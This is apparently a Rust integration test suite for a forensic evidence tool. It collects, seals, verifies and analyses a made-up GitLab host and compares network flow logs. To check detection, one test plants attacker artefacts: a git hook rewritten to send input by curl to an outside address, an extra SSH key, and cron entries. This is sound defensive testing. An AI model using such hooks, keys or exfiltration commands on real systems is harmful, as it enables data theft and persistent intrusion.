//! `portcullis evidence collect`, `verify DIR` and `analyse`, on a root that was made up.

use std::path::Path;

use crate::binary::Portcullis;

fn root(portcullis: &Portcullis) -> String {
    portcullis.write("root/etc/hostname", b"gitlab-1\n");
    let users = b"root:x:0:0::/root:/bin/bash\ngit:x:998:998::/var/opt/gitlab:/bin/sh\n";
    portcullis.write("root/etc/passwd", users);
    portcullis.write("root/opt/gitlab/embedded/service/gitlab-rails/VERSION", b"18.6.0\n");
    portcullis.write("root/etc/cron.d/x", b"@reboot root /tmp/x --token=planted\n");
    portcullis.data().join("root").display().to_string()
}

#[test]
fn a_host_is_collected_verified_and_analysed_in_both_languages() {
    let portcullis = Portcullis::new();
    let root = root(&portcullis);
    let out = portcullis.data().join("bundle").display().to_string();

    let collect = ["evidence", "collect", "--keep-free-gb", "0", "--root", &root, "--out", &out];
    let collected = portcullis.json(&collect);
    assert_eq!(collected["format"], "portcullis.evidence-collection/1", "{collected}");
    assert_eq!(collected["collected"]["host"], "gitlab-1");
    let seal = collected["seal"].as_str().unwrap();

    let verified = portcullis.json(&["evidence", "verify", &out, "--seal", seal]);
    assert_eq!(verified["is_sound"], true, "{verified}");
    let analysis = portcullis.json(&["evidence", "analyse", &out]);
    assert_eq!(analysis["installations"][0], "omnibus", "{analysis}");
    assert_eq!(analysis["strangers"][0]["kind"], "cron");
    for (lang, heading) in [("en", "Entries of cron (1)"), ("ja", "cron の項目 (1 件)")] {
        let output = portcullis.run(&["evidence", "analyse", &out, "--lang", lang]);
        let told = String::from_utf8_lossy(&output.stdout);
        assert!(told.contains(heading) && !told.contains("planted"), "{told}");
        assert_eq!(output.status.code(), Some(10));
    }

    // What this host has is taken as known, once a person has read it.
    let own = portcullis.data().join("own.yml").display().to_string();
    portcullis.run(&["evidence", "analyse", &out, "--propose", &own]);
    let output = portcullis.run(&["evidence", "analyse", &out, "--baseline", &own]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
}

#[test]
fn a_damaged_bundle_fails_and_a_sealed_one_is_not_written_again() {
    let portcullis = Portcullis::new();
    let root = root(&portcullis);
    let out = portcullis.data().join("bundle").display().to_string();
    let collect = ["evidence", "collect", "--keep-free-gb", "0", "--root", &root, "--out", &out];
    assert!(portcullis.run(&collect).status.success());

    let again = portcullis.run(&collect);
    assert_eq!(again.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&again.stderr).contains("never written again"), "{again:?}");

    let manifest = Path::new(&out).join("manifest.json");
    let text = std::fs::read_to_string(&manifest).unwrap().replace("gitlab-1", "gitlab-2");
    std::fs::remove_file(&manifest).unwrap();
    portcullis.write("bundle/manifest.json", text.as_bytes());
    for (lang, word) in [("en", "ALTERED: manifest.json"), ("ja", "改変あり: manifest.json")] {
        let output = portcullis.run(&["evidence", "verify", &out, "--lang", lang]);
        assert!(String::from_utf8_lossy(&output.stdout).contains(word), "{output:?}");
        assert_eq!(output.status.code(), Some(1));
    }
}

#[test]
fn a_bundle_without_packages_and_one_without_time_say_what_they_lack() {
    let portcullis = Portcullis::new();
    let root = root(&portcullis);
    portcullis.write("root/etc/systemd/system/a.service", b"[Service]\nExecStart=/a\n");
    portcullis.write("root/etc/systemd/system/b.service", b"[Service]\nExecStart=/b\n");
    let out = portcullis.data().join("few").display().to_string();
    let collect = ["evidence", "collect", "--keep-free-gb", "0", "--root", &root, "--out", &out];
    let few = portcullis.run(&[&collect[..], &["--only", "scheduled"]].concat());
    assert_eq!(few.status.code(), Some(0), "{few:?}");
    let analysis = portcullis.json(&["evidence", "analyse", &out]);
    let startup = analysis["strangers"].as_array().unwrap().iter();
    let startup: Vec<_> = startup.filter(|one| one["kind"] == "startup").collect();
    assert_eq!(startup.len(), 1, "not one a file: {analysis:#}");
    assert_eq!(startup[0]["reasons"][0]["args"]["count"], "2");

    let over = portcullis.data().join("over").display().to_string();
    for (lang, word) in [("en", "never continued"), ("ja", "続きを加えることはできません")]
    {
        let over = format!("{over}-{lang}");
        let collect =
            ["evidence", "collect", "--keep-free-gb", "0", "--root", &root, "--out", &over];
        let more = ["--only", "accounts,scheduled", "--minutes", "0", "--lang", lang];
        let cut = portcullis.run(&[&collect[..], &more[..]].concat());
        assert_eq!(cut.status.code(), Some(10), "{cut:?}");
        let told = String::from_utf8_lossy(&cut.stdout);
        assert!(told.contains(word) && told.contains("--only accounts"), "{told}");
    }

    let help = portcullis.run(&["evidence", "collect", "--help"]);
    let help = String::from_utf8_lossy(&help.stdout).into_owned();
    let guide = include_str!("../../../../docs/guide/responder.md");
    for probe in evidence::probe_names() {
        assert!(help.contains(probe) && guide.contains(probe), "{probe}");
    }
}

/// The body of an Ed25519 key made of one letter.
fn key(letter: &str) -> String {
    format!("AAAAC3NzaC1lZDI1NTE5AAAAI{}", letter.repeat(43))
}

#[test]
fn exactly_the_planted_strangers_are_found_by_the_command() {
    let portcullis = Portcullis::new();
    let root = root(&portcullis);
    let hook = "root/var/opt/gitlab/gitaly/custom_hooks/pre-receive.d/policy";
    let keys = "root/root/.ssh/authorized_keys";
    portcullis.write(hook, b"#!/bin/sh\nexit 0\n");
    portcullis.write(keys, format!("ssh-ed25519 {} ops\n", key("E")).as_bytes());
    let folder = |name: &str| portcullis.data().join(name).display().to_string();
    let collect = |out: &str| {
        let args = ["evidence", "collect", "--keep-free-gb", "0", "--root", &root, "--out", out];
        assert!(portcullis.run(&args).status.success());
    };
    collect(&folder("clean"));

    // What an attacker leaves: a changed hook, another key, another entry of cron.
    for (path, text) in [
        (hook, "#!/bin/sh\ncurl -d @- http://203.0.113.7/ <&0\n".to_owned()),
        (keys, format!("ssh-ed25519 {} ops\nssh-ed25519 {} mallory\n", key("E"), key("F"))),
        ("root/etc/cron.d/logrotate2", "*/5 * * * * root /usr/local/bin/updater\n".to_owned()),
    ] {
        _ = std::fs::remove_file(portcullis.data().join(path));
        portcullis.write(path, text.as_bytes());
    }
    collect(&folder("later"));

    let (later, clean) = (folder("later"), folder("clean"));
    let analysis = portcullis.json(&["evidence", "analyse", &later, "--earlier", &clean]);
    let strangers = analysis["strangers"].as_array().unwrap();
    let kinds: Vec<&str> = strangers.iter().map(|one| one["kind"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["hook", "key", "cron"], "{analysis}");
}

#[test]
fn unusual_traffic_is_told_in_both_languages_and_an_earlier_recording_is_usual() {
    let portcullis = Portcullis::new();
    let line = |to: &str, port: u16| {
        format!("2 1 eni-1 10.0.0.5 {to} 40000 {port} 6 9 900 1795238400 1795238460 ACCEPT OK\n")
    };
    let write = |name: &str, text: String| {
        portcullis.write(name, text.as_bytes());
        portcullis.data().join(name).display().to_string()
    };
    let before = write("before.log", line("198.51.100.25", 587));
    let now = write("now.log", line("198.51.100.25", 587) + &line("203.0.113.7", 4444));

    let report = portcullis.json(&["evidence", "flows", &now, "--earlier", &before]);
    assert_eq!(report["findings"][0]["with"], "203.0.113.7", "{report}");
    assert_eq!(report["findings"].as_array().unwrap().len(), 1);
    for (lang, words) in [("en", "out 203.0.113.7:4444/tcp"), ("ja", "想定にない宛先")] {
        let output =
            portcullis.run(&["evidence", "flows", &now, "--earlier", &before, "--lang", lang]);
        assert!(String::from_utf8_lossy(&output.stdout).contains(words), "{output:?}");
        assert_eq!(output.status.code(), Some(10));
    }
    let usual = portcullis.data().join("usual.yml").display().to_string();
    assert!(portcullis.run(&["evidence", "flows", &now, "--propose", &usual]).status.success());
    let output = portcullis.run(&["evidence", "flows", &now, "--baseline", &usual]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let none = portcullis.run(&["evidence", "flows", &usual]);
    assert_eq!(none.status.code(), Some(1), "{none:?}");
}
